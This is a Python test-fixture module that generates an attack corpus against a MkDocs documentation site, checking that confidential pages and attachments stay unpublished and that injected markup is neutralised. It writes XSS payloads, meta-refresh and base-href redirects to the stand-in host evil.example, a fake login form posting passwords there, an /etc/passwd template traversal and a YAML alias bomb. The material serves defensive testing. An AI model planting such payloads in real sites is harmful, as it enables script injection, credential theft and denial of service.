"""The attack corpus of issue 19: documents written the way an attacker (or an unlucky
secretary) would write them, each into a copy of the project.

Every attack carries a unique marker word (in its title, its number, its summary and its
body) so that a scan of the outputs finds it, and names its attachments with a unique
token. ``ATTACKS`` lists them by class:

- ``a``: attachments of a confidential document named or linked the way real files are;
- ``b``: front matters MkDocs reads differently from a strict reader (closer, BOM, line ends, tabs);
- ``c``: protection keys spelt as people (or copy-paste) spell them;
- ``d``: pages a validator that only reads ``*.md`` with ``---`` fences never parses;
- ``e``: front-matter markup aimed at the theme's templates (published documents);
- ``f``: cost (a YAML alias bomb).

``write(attack, project)`` writes one attack into a project copy (``bench.corpus.copy_project``)
and lists its pages in the nav; ``python -m attacks.corpus DEST`` (from tests/) writes
them all into a fresh copy, for a look by hand.
"""

from __future__ import annotations

import json
import re
import struct
import zlib
from dataclasses import dataclass, field
from pathlib import Path

PLAN = "ke-hoach/2022-ke-hoach-hoat-dong.md"
NAV_ANCHOR = "      - ke-hoach/index.md\n"
# A marker of the injected markup of class e: never inside a script, an event handler or a refresh.
EVIL = "EVILQ19"
EVIL_HOST = "evil.example"


@dataclass(frozen=True)
class Attack:
    id: str  # "a01-windows-copy-name": class letter, number, what it tries
    marker: str  # unique word in the document's title, number, summary and body
    files: dict[str, bytes]  # docs-relative path -> bytes, written as they are
    withheld: bool = True  # the marker must never reach any output
    attachments: tuple[str, ...] = ()  # docs-relative files that must never be published
    name_may_show: bool = False  # a published page shows the attachment's name as text on purpose
    visible_page_addition: str = ""  # appended to ke-hoach/index.md (a published page)
    nav: tuple[str, ...] = ()  # pages listed in mkdocs.yml's nav (default: every page written)
    notes: str = ""
    expect: dict[str, str] = field(default_factory=dict)  # what it did on the old code (README)

    @property
    def klass(self) -> str:
        return self.id[0]

    @property
    def content_marker(self) -> bytes:
        """Inside every attachment's bytes."""
        return f"{self.marker}FILE".encode()

    def attachment_tokens(self) -> list[str]:
        """The unique token of each attachment's name (what a scan looks for)."""
        return [Path(name).name.split(".")[0].split(" ")[0] for name in self.attachments]


def png(marker: bytes) -> bytes:
    """A valid 1x1 PNG carrying the marker in a text chunk (copied byte for byte)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
            + chunk(b"tEXt", b"Comment\x00" + marker) + chunk(b"IDAT", zlib.compress(b"\x00\x00"))
            + chunk(b"IEND", b""))


def pdf(marker: bytes) -> bytes:
    return b"%PDF-1.4\n% " + marker + b"\n%%EOF\n"


def _plan_parts(project: Path) -> tuple[list[str], str]:
    """The published 2022 plan's front-matter lines (without fences) and its body."""
    text = (project / "docs" / PLAN).read_text(encoding="utf-8")
    _, front, body = text.split("---\n", 2)
    return front.splitlines(), body


def front_lines(project: Path, marker: str, year: int) -> list[str]:
    """A valid plan's front matter with the marker in title, number and summary."""
    lines, _ = _plan_parts(project)
    out = []
    for line in lines:
        if line.startswith("title:"):
            line = f"title: Kế hoạch {marker} năm {year}"
        elif line.startswith("trich_yeu:"):
            line = f"trich_yeu: Hoạt động {marker} năm {year}"
        elif line.startswith("nam:"):
            line = f"nam: {year}"
        elif line.startswith("so:"):
            line = f'so: "{year % 100:02d}-KH/CB {marker}"'
        out.append(line)
    return out


def body(project: Path, marker: str, extra: str = "") -> str:
    _, text = _plan_parts(project)
    anchor = "## I. ĐẶC ĐIỂM TÌNH HÌNH:"
    assert anchor in text
    return text.replace(anchor, f"{anchor}\n\nNội dung riêng {marker} của chi bộ.\n\n{extra}\n", 1)


def document(project: Path, marker: str, year: int, *, top: tuple[str, ...] = (),
             bottom: tuple[str, ...] = (), extra: str = "", opener: str = "---", closer: str = "---",
             between: tuple[str, ...] = ()) -> str:
    """A plan: ``opener``, ``top`` keys, the plan's keys, ``bottom`` keys, ``closer``,
    ``between`` lines (after our closer, before MkDocs' one), then the body."""
    lines = [opener, *top, *front_lines(project, marker, year), *bottom, closer, *between]
    return "\n".join(lines) + "\n" + body(project, marker, extra)


def _marker(attack_id: str) -> str:
    number = attack_id[:3].upper()
    return f"ATK{number}Q19"  # e.g. ATKA01Q19: letters and digits, one word for every tokenizer


def _year(attack_id: str) -> int:
    return 2030 + "abcdef".index(attack_id[0]) * 12 + int(attack_id[1:3])


def attacks(project: Path) -> list[Attack]:
    """Every attack of the corpus, built from this project's 2022 plan."""
    out: list[Attack] = []

    def add(attack_id: str, make, **kwargs) -> None:
        marker, year = _marker(attack_id), _year(attack_id)
        files = make(marker, year)
        out.append(Attack(id=attack_id, marker=marker, files=files, **kwargs))

    def plan_file(attack_id: str) -> str:
        return f"ke-hoach/{_year(attack_id)}-atk-{attack_id[:3]}.md"

    # --- a: attachments of a confidential document -------------------------------------------
    def confidential_with(attack_id: str, link: str, attachment: str, content: bytes | None = None,
                          **kwargs) -> None:
        def make(marker: str, year: int) -> dict[str, bytes]:
            data = content if content is not None else (
                png(f"{marker}FILE".encode()) if attachment.endswith(".png") else pdf(f"{marker}FILE".encode()))
            return {plan_file(attack_id): document(project, marker, year, bottom=("mat: true",),
                                                   extra=link.replace("MARKER", marker)).encode(),
                    f"ke-hoach/{attachment}": data}
        add(attack_id, make, attachments=(f"ke-hoach/{attachment}",), **kwargs)

    confidential_with("a01-windows-copy-name", "[Biên bản](<tepa01 (1).pdf>)", "tepa01 (1).pdf",
                      notes="Windows' name of a second copy: a space and parentheses")
    confidential_with("a02-autolink-with-space", "Xem <files/tepa02 b.pdf>", "files/tepa02 b.pdf")
    confidential_with("a03-reference-url-next-line", "Xem [phụ lục][pla03].\n\n[pla03]:\n    files/tepa03.pdf\n",
                      "files/tepa03.pdf")
    confidential_with("a04-reference-in-quote", "> Xem [phụ lục][pla04].\n>\n> [pla04]: files/tepa04.pdf\n",
                      "files/tepa04.pdf")
    confidential_with("a05-reference-in-list-item",
                      "- Xem [phụ lục][pla05].\n\n    [pla05]: files/tepa05.pdf\n", "files/tepa05.pdf")
    confidential_with("a06-absolute-path", "[Phụ lục](/ke-hoach/files/tepa06.pdf)", "files/tepa06.pdf")
    confidential_with("a07-img-src-entity", '<img src="files/tepa07&#x2e;png" alt="">', "files/tepa07.png")
    confidential_with("a08-css-url-in-style",
                      '<div style="background-image: url(files/tepa08.png)">Sơ đồ</div>', "files/tepa08.png")
    confidential_with("a09-td-background",
                      '<table><tr><td background="files/tepa09.png">Sơ đồ</td></tr></table>', "files/tepa09.png")
    confidential_with("a10-meta-refresh",
                      '<meta http-equiv="refresh" content="0;url=files/tepa10.pdf">', "files/tepa10.pdf")
    confidential_with("a11-visible-html-comment", "[Phụ lục](files/tepa11.pdf)", "files/tepa11.pdf",
                      name_may_show=True,
                      visible_page_addition="\n<!-- cũ: [Phụ lục](files/tepa11.pdf) -->\n")
    confidential_with("a12-visible-code-block", "![Sơ đồ](files/tepa12.png)", "files/tepa12.png",
                      name_may_show=True,
                      visible_page_addition="\nCách chèn ảnh:\n\n```markdown\n![Sơ đồ](files/tepa12.png)\n```\n")
    confidential_with("a13-srcset-entity",
                      '<img src="files/tepa13x.png" srcset="files/tepa13x.png 1x, files/tepa13&#46;png 2x" alt="">',
                      "files/tepa13.png")
    confidential_with("a14-object-data", '<object data="files/tepa14.pdf" type="application/pdf"></object>',
                      "files/tepa14.pdf")
    confidential_with("a15-video-poster", '<video poster="files/tepa15.png" controls></video>',
                      "files/tepa15.png")
    confidential_with("a16-unreferenced-next-to-confidential", "Bản chụp gửi riêng.", "files/tepa16.pdf",
                      notes="a scan beside the document, linked from nowhere")

    # Found against the staged pipeline (issue 19's first version): a published page that shows
    # HTML as text (textarea, xmp) still "references" the file for a parser that is not a browser.
    confidential_with("a17-visible-textarea", "![Sơ đồ](files/tepa17.png)", "files/tepa17.png",
                      name_may_show=True,
                      visible_page_addition='\nMẫu:\n\n<textarea readonly><img src="files/tepa17.png"></textarea>\n')
    confidential_with("a18-visible-xmp", "![Sơ đồ](files/tepa18.png)", "files/tepa18.png",
                      name_may_show=True,
                      visible_page_addition='\n<xmp><img src="files/tepa18.png"></xmp>\n')

    def collision(marker: str, year: int) -> dict[str, bytes]:
        # A shared root folder anh/ (../anh/...) and a published image of the same name elsewhere,
        # linked by an absolute path: /ke-hoach/anh/tepa19.png must not publish anh/tepa19.png.
        return {plan_file("a19"): document(project, marker, year, bottom=("mat: true",),
                                          extra="![Sơ đồ](../anh/tepa19.png)").encode(),
                "anh/tepa19.png": png(f"{marker}FILE".encode()),
                "ke-hoach/anh/tepa19.png": png(b"public image")}
    add("a19-absolute-path-suffix-collision", collision, attachments=("anh/tepa19.png",), name_may_show=True,
        visible_page_addition="\n![Ảnh chung](/ke-hoach/anh/tepa19.png)\n")

    # --- b: front matters read differently ------------------------------------------------------
    def withheld_doc(attack_id: str, make_text, name: str | None = None, **kwargs) -> None:
        def make(marker: str, year: int) -> dict[str, bytes]:
            text = make_text(marker, year)
            return {name or plan_file(attack_id): text if isinstance(text, bytes) else text.encode()}
        add(attack_id, make, **kwargs)

    withheld_doc("b01-indented-closer",
                 lambda m, y: document(project, m, y, closer=" ---", between=("mat: true", "---")))
    withheld_doc("b02-dots-closer", lambda m, y: document(project, m, y, bottom=("mat: true",), closer="..."))
    withheld_doc("b03-bom", lambda m, y: b"\xef\xbb\xbf" + document(project, m, y, bottom=("mat: true",)).encode())
    withheld_doc("b04-crlf", lambda m, y: document(project, m, y, bottom=("mat: true",)).replace("\n", "\r\n"))
    withheld_doc("b05-cr", lambda m, y: document(project, m, y, bottom=("mat: true",)).replace("\n", "\r"))
    withheld_doc("b06-tab-after-colon", lambda m, y: document(project, m, y, bottom=("mat:\ttrue",)))
    withheld_doc("b07-tab-after-fence", lambda m, y: document(project, m, y, opener="---\t",
                                                                bottom=("mat: true",), closer="---\t"))
    withheld_doc("b08-bom-crlf-dots", lambda m, y: b"\xef\xbb\xbf" + document(
        project, m, y, bottom=("mat: true",), closer="...").replace("\n", "\r\n").encode())

    withheld_doc("b09-toml-front-matter",
                 lambda m, y: "+++\n" + f'title = "Kế hoạch {m} năm {y}"\nmat = true\n' + "+++\n" + body(project, m),
                 notes="Hugo's front matter: MkDocs shows it as text, the author meant it")

    withheld_doc("b10-toml-in-unchecked-section",
                 lambda m, y: "+++\n" + f'title = "Ghi chú {m}"\nmat = true\n' + "+++\n\n"
                 + f"# Ghi chú {m}\n\nNội dung riêng {m}.\n", name="huong-dan/ghi-chu-atk-b10.md",
                 notes="where no front matter is required, +++ ... +++ is read as text and published")

    # --- c: keys ---------------------------------------------------------------------------------
    for attack_id, key in (("c01-do-mat-vietnamese", "độ mật: Mật"),
                           ("c02-do-mat-ascii", "do_mat: Tối mật"),
                           ("c03-capital-mat-co", "Mật: có"),
                           ("c04-zero-width-space-in-key", "m\u200bat: true"),
                           ("c05-soft-hyphen-in-key", "m\u00adat: true"),
                           ("c06-nfd-mat", "ma\u0323\u0302t: true"),
                           ("c08-upper-case", "MAT: TRUE"),
                           ("c09-nhap-quoted-co", 'nhap: "có"'),
                           ("c10-zero-width-joiner-value", "mat: tr\u200due"),
                           ("c11-bi-mat-nbsp", "độ\u00a0mật: Tuyệt mật")):
        withheld_doc(attack_id, lambda m, y, key=key: document(project, m, y, bottom=(key,)))
    # Found against the staged pipeline: spellings of "confidential" that are not a top-level key.
    for attack_id, keys in (("c12-nested-key", ("thuoc_tinh:", "  mat: true")),
                            ("c13-list-item-key", ("ghi_chu:", "  - mat: true")),
                            ("c14-fullwidth-key", ("ｍａｔ: true",)),
                            ("c16-cong-khai-false", ("công khai: không",)),
                            ("c17-phan-loai-mat", ("phân loại: Mật",))):
        withheld_doc(attack_id, lambda m, y, keys=keys: document(project, m, y, bottom=keys))
    withheld_doc("c15-mat-in-one-line-comment",
                 lambda m, y: document(project, m, y, extra="<!-- mat: true -->"))
    withheld_doc("c07-duplicate-key-true-then-false",
                 lambda m, y: document(project, m, y, top=("mat: true",), bottom=("mat: false",)))

    # --- d: pages never parsed -------------------------------------------------------------------
    for attack_id, suffix in (("d01-markdown-suffix", ".markdown"), ("d02-mdown-suffix", ".mdown"),
                              ("d03-mkd-suffix", ".mkd")):
        withheld_doc(attack_id, lambda m, y: document(project, m, y, bottom=("mat: true",)),
                     name=plan_file(attack_id)[:-3] + suffix)
    withheld_doc("d04-yaml-error-beside-mat-in-unchecked-section",
                 lambda m, y: f"---\ntitle: Ghi chú {m}\nmat: true\nso: [{m}\n---\n\nGhi chú riêng {m}.\n",
                 name="huong-dan/ghi-chu-atk-d04.md")
    withheld_doc("d05-multimarkdown-metadata",
                 lambda m, y: "\n".join(front_lines(project, m, y)[2:] + ["mat: true"]) + "\n\n"
                 + body(project, m), notes="MkDocs reads MultiMarkdown metadata without --- fences")
    withheld_doc("d06-yaml-error-beside-mat-in-document",
                 lambda m, y: document(project, m, y, bottom=("mat: true", f"ghi_chu: [{m}")))
    withheld_doc("d07-index-page-mat",
                 lambda m, y: f"---\ntitle: Mục lục {m}\nmat: true\n---\n\n# Mục lục {m}\n\nNội dung riêng {m}.\n",
                 name="van-ban-khac/atk-d07/index.md")

    # --- e: theme markup (published documents: the marker may show, the markup must not act) ------
    refresh = f'"><meta http-equiv="refresh" content="0;url=https://{EVIL_HOST}/{EVIL}">'
    script = f"<script>alert('{EVIL}')</script>"
    image = f"<img src=x onerror=\"alert('{EVIL}')\">"
    for attack_id, keys in (
            ("e01-status-meta-refresh", (f"status: '{refresh}'",)),
            ("e02-subtitle-list-script", ("subtitle:", f'  - "{script}"')),
            ("e03-description-list-img-onerror", ("description:", f"  - {json.dumps(image)}")),
            ("e04-author-list-script", ("author:", f'  - "{script}"', f"  - {json.dumps(image)}")),
            ("e05-tags-script", ("tags:", f'  - "{script}"', f"  - '{refresh}'")),
            ("e06-description-refresh", (f"description: '{refresh}'",)),
            ("e07-extra-block", ("extra:", f"  homepage: 'javascript:alert(\"{EVIL}\")'",
                                 f"  status: '{refresh}'")),
            ("e08-template-traversal", ("template: ../../../../../../etc/passwd",)),
            ("e09-hide-tricks", ("hide:", "  - navigation", f'  - "{script}"', "  - toc")),
            ("e10-icon-and-search", (f"icon: '{refresh}'", "search:", "  boost: 1000000", "  exclude: false"))):
        withheld_doc(attack_id, lambda m, y, keys=keys: document(project, m, y, bottom=keys), withheld=False)
    withheld_doc("e11-title-closes-title",
                 lambda m, y: document(project, m, y).replace(
                     f"title: Kế hoạch {m} năm {y}", "title: " + json.dumps(f"Kế hoạch {m} </title>{script}<title>", ensure_ascii=False), 1),
                 withheld=False)

    # Markup in the body of a published document (the sanitiser's side of "never runs or redirects").
    withheld_doc("e12-body-markup", lambda m, y: document(project, m, y, extra="\n\n".join((
        script, image, f"<svg onload=\"alert('{EVIL}')\"></svg>",
        f'<meta http-equiv="refresh" content="0;url=https://{EVIL_HOST}/{EVIL}">',
        f"<iframe src=\"javascript:alert('{EVIL}')\"></iframe>",
        f"<a href=\"javascript:alert('{EVIL}')\">bấm</a>", f"[bấm](javascript:alert('{EVIL}'))",
        f'<form action="https://{EVIL_HOST}/{EVIL}"><input name=p type=password><button>Đăng nhập</button></form>',
        f'<object data="https://{EVIL_HOST}/{EVIL}.swf"></object>',
        f'<link rel="stylesheet" href="https://{EVIL_HOST}/{EVIL}.css">'))), withheld=False)
    withheld_doc("e13-body-base-href",
                 lambda m, y: document(project, m, y, extra=f'<base href="https://{EVIL_HOST}/{EVIL}/">'),
                 withheld=False)

    def header_markup(m: str, y: int) -> str:
        # Every header/footer field of the document's own templates (overrides/partials).
        text = document(project, m, y)
        for key in ("cap_tren", "chi_bo", "tham_quyen", "chuc_vu", "nguoi_ky"):
            text = re.sub(rf"(?m)^{key}: .*$", f"{key}: {json.dumps(image)}", text, count=1)
        text = text.replace("  - Lưu.", f'  - "{script}"', 1)
        return text.replace(f"trich_yeu: Hoạt động {m} năm {y}", f"trich_yeu: '{m} {refresh}'", 1)
    withheld_doc("e14-header-fields-markup", header_markup, withheld=False)

    # --- f: cost ----------------------------------------------------------------------------------
    bomb = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    bomb += [f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, "
             f"*a{i - 1}, *a{i - 1}]" for i in range(1, 10)]
    withheld_doc("f01-yaml-alias-bomb", lambda m, y: document(project, m, y, bottom=("mat: true", *bomb)))
    return out


def write(attack: Attack, project: Path) -> None:
    """Write the attack's files into the project copy and list its pages in the nav."""
    docs = project / "docs"
    for name, data in attack.files.items():
        path = docs / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    if attack.visible_page_addition:
        index = docs / "ke-hoach" / "index.md"
        index.write_text(index.read_text(encoding="utf-8") + attack.visible_page_addition, encoding="utf-8")
    pages = attack.nav or tuple(name for name in attack.files
                                if name.rsplit(".", 1)[-1] in ("md", "markdown", "mdown", "mkd", "mkdn"))
    config = project / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    assert NAV_ANCHOR in text
    entries = "".join(f"      - Tài liệu {attack.marker} {i}: {page}\n" for i, page in enumerate(pages))
    config.write_text(text.replace(NAV_ANCHOR, NAV_ANCHOR + entries, 1), encoding="utf-8")


def main() -> None:
    import argparse
    import sys

    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
    from bench.corpus import copy_project

    parser = argparse.ArgumentParser(description="Write the whole attack corpus into a project copy.")
    parser.add_argument("dest", type=Path)
    args = parser.parse_args()
    project = copy_project(args.dest)
    for attack in attacks(project):
        write(attack, project)
        print(attack.id, attack.marker)


if __name__ == "__main__":
    main()
